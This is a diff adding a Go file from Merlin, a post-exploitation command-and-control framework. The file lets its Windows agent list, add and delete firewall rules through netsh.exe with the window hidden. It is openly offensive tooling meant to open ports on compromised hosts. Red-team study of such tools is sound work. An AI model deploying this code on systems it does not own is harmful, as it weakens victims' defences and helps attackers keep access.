@@ -0,0 +1,73 @@
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"os/exec"
+	"strings"
+	"syscall"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// firewall lists, adds, or deletes Windows Firewall rules with netsh.exe
+func firewall(f messages.Firewall) (string, error) {
+	var args []string
+	switch f.Action {
+	case "list":
+		name := "all"
+		if f.Name != "" {
+			name = f.Name
+		}
+		args = []string{"advfirewall", "firewall", "show", "rule", "name=" + name}
+	case "add":
+		args = []string{"advfirewall", "firewall", "add", "rule", "name=" + f.Name, "dir=" + f.Direction, "action=allow",
+			"protocol=" + strings.ToUpper(f.Protocol)}
+		if f.Direction == "out" {
+			args = append(args, "remoteport="+f.Port)
+		} else {
+			args = append(args, "localport="+f.Port)
+		}
+		if f.Remote != "" {
+			args = append(args, "remoteip="+f.Remote)
+		}
+	case "delete":
+		args = []string{"advfirewall", "firewall", "delete", "rule", "name=" + f.Name, "dir=" + f.Direction}
+	default:
+		return "", fmt.Errorf("%s is not a valid firewall action", f.Action)
+	}
+	cmd := exec.Command("netsh.exe", args...) // #nosec G204
+	cmd.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		return "", fmt.Errorf("there was an error running netsh.exe:\r\n%s %s", err.Error(), bytes.TrimSpace(out))
+	}
+	if f.Action == "list" {
+		return string(bytes.TrimSpace(out)), nil
+	}
+	if f.Action == "add" {
+		return fmt.Sprintf("Added Windows Firewall %s rule %s allowing %s/%s", f.Direction, f.Name, f.Port, f.Protocol), nil
+	}
+	return fmt.Sprintf("Deleted Windows Firewall rule %s: %s", f.Name, bytes.TrimSpace(out)), nil
+}